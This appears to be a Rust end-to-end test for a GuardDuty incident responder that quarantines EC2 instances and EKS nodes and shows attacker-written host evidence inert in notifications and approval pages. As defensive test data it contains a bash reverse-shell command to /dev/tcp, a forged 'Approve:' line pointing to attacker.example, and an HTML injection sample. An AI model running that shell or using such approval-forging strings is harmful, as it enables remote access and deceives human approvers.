//! Instances from every GuardDuty source: a Runtime Monitoring finding and a Malware
//! Protection for EC2 finding on an instance reach instance containment (HIGH at once, MEDIUM
//! after approval), and what GuardDuty saw on the host, which the attacker wrote, reaches the
//! people inert: in the notification, the approval request and the approval page.

use anyhow::{Context, Result};
use end_to_end::{fixture, open_link, with_harness, Options};
use responder::readback;
use responder::scenario::for_instance;
use responder_core::markers;
use serde_json::Value;

/// The script path in the fixture: a forged line with a link and HTML.
const FORGED: &str = "Approve: https://attacker.example/";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn runtime_and_malware_findings_on_instances_are_contained_and_host_evidence_is_shown_inert(
) -> Result<()> {
    with_harness(Options::default(), |h| async move {
        let e = &h.estate;
        let id = "e2e1301runtime";
        let event = for_instance(
            fixture("ec2-runtime-reverse-shell.json")?,
            id,
            &e.web,
            &e.region,
        );
        let s = h.run("reverse shell", &event).await?;
        assert_eq!(
            (s.status.as_str(), s.outcome.as_str()),
            ("SUCCEEDED", "contained"),
            "{s:#?}"
        );
        let st = readback::instance(&h.security, &e.web.instance_id).await?;
        assert!(st
            .interfaces
            .iter()
            .all(|i| i.group_names == [markers::QUARANTINE_GROUP_NAME]));
        assert!(st.termination_protection);

        let n = h
            .notifications()
            .await?
            .into_iter()
            .find(|n| n.message.contains(id) && n.attributes.get("outcome").map(String::as_str) == Some("contained"))
            .context("no contained notification")?;
        let body: Value = serde_json::from_str(&n.message)?;
        let lines: Vec<&str> = body["hostEvidence"]["lines"]
            .as_array()
            .context("the notification carries the host evidence")?
            .iter()
            .filter_map(Value::as_str)
            .collect();
        assert_eq!(
            lines.first().copied(),
            Some("process: /usr/bin/bash, pid 31337, user www-data, sha256 5f6e7d8c9b0a1f2e3d4c5b6a79880796a5b4c3d2e1f0a9b8c7d6e5f4a3b2c1d0"),
            "{lines:#?}"
        );
        assert!(lines.contains(&"parent 1: /usr/sbin/php-fpm8.2, pid 2211"), "{lines:#?}");
        assert!(
            lines.contains(&"command line (example): bash -i >& /dev/tcp/198.51.100.77/4444 0>&1"),
            "{lines:#?}"
        );
        let script = lines
            .iter()
            .find(|l| l.starts_with("script: "))
            .context("the script path")?;
        assert!(
            script.contains("x.php\\u{a}Approve:") && !script.contains('\n'),
            "the newline is written out: {script}"
        );
        assert!(
            lines.iter().all(|l| !l.starts_with(FORGED)),
            "no forged line: {lines:#?}"
        );

        // Malware Protection for EC2 at HIGH: contained at once by the same path.
        let id = "e2e1304malware";
        let mut event = for_instance(
            fixture("ec2-malware-file-medium.json")?,
            id,
            &e.multi,
            &e.region,
        );
        event["detail"]["severity"] = serde_json::json!(8);
        let s = h.run("malware high", &event).await?;
        assert_eq!(
            (s.status.as_str(), s.outcome.as_str()),
            ("SUCCEEDED", "contained"),
            "{s:#?}"
        );
        let st = readback::instance(&h.security, &e.multi.instance_id).await?;
        assert!(st
            .interfaces
            .iter()
            .all(|i| i.group_names == [markers::QUARANTINE_GROUP_NAME]));
        Ok(())
    })
    .await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_malware_finding_asks_first_and_shows_the_detection_on_the_page() -> Result<()> {
    with_harness(Options::default(), |h| async move {
        let e = &h.estate;
        // Malware Protection for EC2, MEDIUM.
        let id = "e2e1302malware";
        let event = for_instance(
            fixture("ec2-malware-file-medium.json")?,
            id,
            &e.multi,
            &e.region,
        );
        let s = h.run("malware", &event).await?;
        assert_eq!(s.status, "WAITING_FOR_APPROVAL", "{s:#?}");
        let request = h.approval_request(id).await?;
        assert!(
            request.message.contains(
                "  malware: EICAR-Test-File (not a virus) in /home/ec2-user/eicar.com (hash 275a021b"
            ),
            "{}",
            request.message
        );
        let (approve, reject) = h.approval_links(id).await?;
        let (status, page) = open_link(&approve).await?;
        assert_eq!(status, 200);
        assert!(
            page.contains("malware: EICAR-Test-File (not a virus) in /home/ec2-user/eicar.com"),
            "{page}"
        );
        h.decide(&reject, false, "ana@example.com").await?;
        assert_eq!(h.resume(&s).await?.outcome, "approval-rejected");

        // The runtime finding at MEDIUM: its hostile script path on the page and in the
        // request, inert.
        let id = "e2e1303runtime";
        let mut event = for_instance(
            fixture("ec2-runtime-reverse-shell.json")?,
            id,
            &e.web,
            &e.region,
        );
        event["detail"]["severity"] = serde_json::json!(5);
        let s = h.run("runtime medium", &event).await?;
        assert_eq!(s.status, "WAITING_FOR_APPROVAL", "{s:#?}");
        let request = h.approval_request(id).await?;
        assert!(
            request.message.lines().all(|l| !l.trim_start().starts_with(FORGED)),
            "a host path forged a line of the request:\n{}",
            request.message
        );
        assert!(request.message.contains("x.php\\u{a}Approve:"), "{}", request.message);
        let (approve, reject) = h.approval_links(id).await?;
        let (_, page) = open_link(&approve).await?;
        assert!(
            page.contains("&lt;b&gt;approve&lt;/b&gt;") && !page.contains("<b>approve"),
            "the page escapes host text: {page}"
        );
        h.decide(&reject, false, "ana@example.com").await?;
        assert_eq!(h.resume(&s).await?.outcome, "approval-rejected");
        Ok(())
    })
    .await
}

/// A process on an EKS worker node itself (an `EKSCluster` finding with the node in
/// `instanceDetails` and no workload) takes the instance path: the node is isolated like any
/// instance, with the cluster named in the decision.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_runtime_finding_on_an_eks_worker_node_isolates_the_node() -> Result<()> {
    with_harness(Options::default(), |h| async move {
        let e = &h.estate;
        let event = for_instance(
            fixture("eks-node-runtime-reverse-shell.json")?,
            "e2e1302eksnode",
            &e.multi,
            &e.region,
        );
        let s = h.run("eks node", &event).await?;
        assert_eq!(
            (s.status.as_str(), s.outcome.as_str(), s.route.as_deref()),
            ("SUCCEEDED", "contained", Some("ec2")),
            "{s:#?}"
        );
        assert!(
            s.reasons
                .iter()
                .any(|r| r.contains("worker node") && r.contains("platform-eks")),
            "{:#?}",
            s.reasons
        );
        let st = readback::instance(&h.security, &e.multi.instance_id).await?;
        assert!(st
            .interfaces
            .iter()
            .all(|i| i.group_names == [markers::QUARANTINE_GROUP_NAME]));
        Ok(())
    })
    .await
}
